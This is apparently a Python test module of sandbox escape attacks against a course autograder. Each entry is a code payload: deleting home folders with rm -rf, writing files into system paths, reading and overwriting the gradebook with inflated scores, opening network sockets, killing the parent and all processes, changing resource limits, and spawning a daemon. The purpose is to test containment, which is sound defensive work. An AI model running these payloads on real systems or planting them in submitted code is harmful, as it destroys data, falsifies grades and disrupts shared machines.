"""Attacks on files, processes and the network of the machine.

What should not be written is seen by its `MARK`; a success that leaves no trace says "ESCAPED".
"""

from .attack import by_code

ATTACKS = [
    by_code(
        "delete HOME",
        """
import shutil
for folder in (HOME, COURSE, os.environ.get("HOME", HOME) if inside else HOME):
    shutil.rmtree(folder, ignore_errors=True)
    os.system(f"rm -rf '{folder}'")
""",
    ),
    by_code(
        "write wherever it can",
        """
places = [HOME, COURSE, "/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", "/usr", "/etc"]
places += [sys.prefix, sys.base_prefix, *sys.path, os.path.dirname(os.__file__)]
places += [os.path.join(COURSE, name) for name in ("source", "submitted", "autograded", ".grading")]
for folder in places:
    for name in (MARK, f"{MARK}.py", f"{MARK}.pth"):
        try:
            open(os.path.join(folder or ".", name), "w").close()
        except OSError:
            pass
""",
    ),
    by_code(
        "take away the rights to the course",
        """
for folder in (COURSE, HOME, os.path.join(COURSE, "gradebook.db"), os.path.join(COURSE, "source")):
    for take in (lambda path: os.chmod(path, 0), lambda path: os.utime(path, (0, 0))):
        try:
            take(folder)
        except OSError:
            pass
""",
    ),
    by_code(
        "read the gradebook",
        """
for root in (COURSE, "."):
    for path in ("gradebook.db", "gradebook.db-wal", "gradebook.db-journal"):
        try:
            find(open(os.path.join(root, path), "rb").read().decode("latin-1"))
            escaped("the gradebook")
        except OSError:
            pass
""",
    ),
    by_code(
        "write the gradebook",
        """
import sqlite3
try:
    with sqlite3.connect(os.path.join(COURSE, "gradebook.db")) as book:
        book.execute("update grade set manual_score = 308, auto_score = 308")
        book.execute("update grade_cells set max_score = 308")
        escaped("the gradebook")
except sqlite3.Error:
    pass
""",
    ),
    by_code(
        "sockets to this machine and beyond",
        """
import socket
for family, address in (
    (socket.AF_INET, ("127.0.0.1", PORT)),
    (socket.AF_INET6, ("::1", PORT)),
    (socket.AF_UNIX, "\\0" + MARK),
    (socket.AF_UNIX, os.path.join(HOME, "socket")),
    (socket.AF_INET, ("192.0.2.1", 80)),
    (socket.AF_INET, (os.uname().nodename, PORT)),
):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as one:
            one.settimeout(0.2)
            one.connect(address)
            one.sendall(MARK.encode())
            escaped(address)
    except OSError:
        pass
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(MARK.encode(), ("192.0.2.1", 53))
    escaped("a datagram")
except OSError:
    pass
""",
    ),
    by_code(
        "kill the parent",
        "import signal\nos.kill(os.getppid(), signal.SIGKILL) if os.getppid() > 1 or inside else 0\n",
    ),
    by_code(
        "stop the parent",
        "import signal\nos.kill(os.getppid(), signal.SIGSTOP) if os.getppid() > 1 or inside else 0\n",
    ),
    by_code(
        "kill all that it sees",
        """
import signal
if inside:
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass
    os.kill(-1, signal.SIGKILL)
else:
    escaped("it sees the processes of the machine")
""",
    ),
    by_code(
        "kill all in an answer",
        """
import signal
def standardize(x):
    if inside:
        os.kill(-1, signal.SIGKILL)
        os.kill(1, signal.SIGKILL)
        os.killpg(0, signal.SIGKILL)
    return x
""",
        "standardize",
    ),
    by_code(
        "limits for the parent",
        """
import resource
for process in (os.getppid(), 1):
    for what in (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE):
        try:
            if inside:
                resource.prlimit(process, what, (0, 0))
        except (OSError, ValueError):
            pass
""",
    ),
    by_code(
        "lift its own limits",
        """
import resource
everything = resource.RLIM_INFINITY
for name in dir(resource):
    if name.startswith("RLIMIT_"):
        try:
            resource.setrlimit(getattr(resource, name), (everything, everything))
        except (OSError, ValueError):
            pass
taken = [b"x" * (50 << 20) for _ in range(80)]
""",
    ),
    by_code(
        "a daemon that outlives the job",
        """
import subprocess, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.chdir("/")
        sleeper = [sys.executable, "-c", "import time; time.sleep(600)", MARK]
        subprocess.Popen(sleeper, start_new_session=True)
        time.sleep(600)
    os._exit(0)
""",
    ),
]
